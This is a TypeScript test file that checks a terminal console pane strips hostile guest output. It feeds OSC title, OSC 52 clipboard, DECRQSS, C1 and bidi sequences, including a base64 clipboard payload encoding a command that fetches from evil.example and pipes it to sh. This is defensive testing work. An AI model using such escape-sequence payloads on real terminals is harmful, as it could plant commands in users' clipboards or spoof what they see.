// Guest output is hostile input: nothing the guest sends may reach the operator's terminal as
// a control sequence. Feeds title changes, OSC 52 clipboard writes, DECRQSS, cursor position
// queries and 8-bit C1 controls, then checks both the snapshot text and the frames Ink writes.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import React from 'react';
import chalk from 'chalk';
import { render } from 'ink-testing-library';
import { createConsoleSession, lineText, type ConsoleSession } from '../../src/console/index.js';
import { ConsolePane } from '../../src/ui/components/console-pane.js';
import { FakeSerial, until } from './console-fake-serial.js';

const CLIPBOARD_SECRET = 'Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=='; // base64 of a shell command
const HOSTILE: Array<[string, string | Buffer]> = [
  ['OSC 0 title (BEL)', '\x1b]0;PWNED-TITLE-0\x07'],
  ['OSC 2 title (ST)', '\x1b]2;PWNED-TITLE-2\x1b\\'],
  ['OSC 52 clipboard', `\x1b]52;c;${CLIPBOARD_SECRET}\x07`],
  ['OSC 52 query', '\x1b]52;c;?\x07'],
  ['OSC 8 hyperlink', '\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07'],
  ['DECRQSS', '\x1bP$qm\x1b\\'],
  ['DECRQSS r', '\x1bP$qr\x1b\\'],
  ['CSI 6n', '\x1b[6n'],
  ['DA1', '\x1b[c'],
  ['window title report', '\x1b[21t'],
  ['window resize', '\x1b[8;100;300t'],
  ['8-bit CSI (UTF-8 encoded C1)', '\u009b6n\u009b31mC1RED\u009b0m'],
  ['8-bit OSC', '\u009d0;PWNED-C1-TITLE\u009c'],
  ['8-bit DCS', '\u0090$qm\u009c'],
  ['raw C1 bytes', Buffer.from([0x9b, 0x36, 0x6e, 0x9d, 0x30, 0x3b, 0x78, 0x07, 0x90, 0x9c, 0x85, 0x8d])],
  ['BEL', '\x07\x07'],
  ['bidi override', 'abc\u202edcba\u202c'],
  ['unterminated OSC', '\x1b]0;PWNED-UNTERMINATED'],
  ['after', '\x18\r\nVISIBLE-AFTER\r\n'],
];

const OSC_PAYLOADS = ['PWNED-TITLE-0', 'PWNED-TITLE-2', CLIPBOARD_SECRET, 'evil.example', 'PWNED-C1-TITLE', 'PWNED-UNTERMINATED'];

function assertSafe(text: string): void {
  expect(text).not.toMatch(/\x1b/);
  expect(text).not.toMatch(/[\u0080-\u009f]/);
  expect(text).not.toMatch(/\x07/);
  expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
  expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  for (const p of OSC_PAYLOADS) expect(text).not.toContain(p);
}

/** Ink's own colour/style SGR sequences, the only escapes the pane may produce. */
const INK_SGR = /\x1b\[[0-9;]*m/g;

let serial: FakeSerial;
let session: ConsoleSession | null = null;

beforeEach(async () => {
  serial = new FakeSerial();
  await serial.start();
});

afterEach(async () => {
  await session?.close();
  session = null;
  await serial.dispose();
});

async function feedHostile(live: boolean): Promise<ConsoleSession> {
  const s = createConsoleSession({ name: 'evil', getEndpoint: async () => serial.endpoint(), cols: 60, rows: 12, frameMs: 5 });
  session = s;
  const feed = () => {
    serial.print('\x1b[31mred\x1b[0m \x1b[1;44mbold-on-blue\x1b[0m\r\n');
    for (const [, seq] of HOSTILE) serial.print(seq);
  };
  if (!live) feed();
  await s.open();
  if (live) feed();
  await until(() => s.bufferText().includes('VISIBLE-AFTER'));
  return s;
}

describe('hostile guest output', () => {
  it('never puts a control character or OSC payload into the snapshot', async () => {
    const s = await feedHostile(true);
    const snap = await s.settle();
    const text = snap.lines.map(lineText).join('\n');
    assertSafe(text);
    for (const line of snap.lines) for (const span of line) assertSafe(span.text);
    expect(text).toContain('VISIBLE-AFTER');
    expect(text).toContain('C1RED'); // the 8-bit CSI was parsed as a sequence, its text kept
    // colours survive as attributes, not as escapes
    const red = snap.lines.flat().find((sp) => sp.text.startsWith('red'));
    expect(red?.fg).toBe('red');
    const blue = snap.lines.flat().find((sp) => sp.text.includes('bold-on-blue'));
    expect(blue).toMatchObject({ bg: 'blue', bold: true });
  });

  it('answers queries to the guest only, and only for live output', async () => {
    const s = await feedHostile(true);
    await s.settle();
    const answers = serial.received.toString('latin1');
    expect(answers).toContain('R'); // cursor position report went back to the guest
    expect(answers).not.toContain('PWNED'); // title reports are not answered
  });

  it('sends nothing back for the same sequences replayed from the log', async () => {
    const s = await feedHostile(false);
    await s.settle();
    await new Promise((r) => setTimeout(r, 50));
    expect(serial.received.length).toBe(0);
  });

  it('renders frames with Ink styling only', async () => {
    const level = chalk.level;
    chalk.level = 3; // make Ink emit colours, to prove only its own SGR sequences appear
    try {
      const s = await feedHostile(true);
      await s.settle();
      const ui = render(React.createElement(ConsolePane, { session: s, width: 62, height: 15 }));
      await until(() => (ui.lastFrame() ?? '').includes('VISIBLE-AFTER'));
      expect(ui.frames.length).toBeGreaterThan(0);
      let sawColour = false;
      for (const frame of ui.frames) {
        if (INK_SGR.test(frame)) sawColour = true;
        INK_SGR.lastIndex = 0;
        assertSafe(frame.replace(INK_SGR, '').replace(/\n/g, ''));
      }
      expect(sawColour).toBe(true);
      ui.unmount();
    } finally {
      chalk.level = level;
    }
  });
});
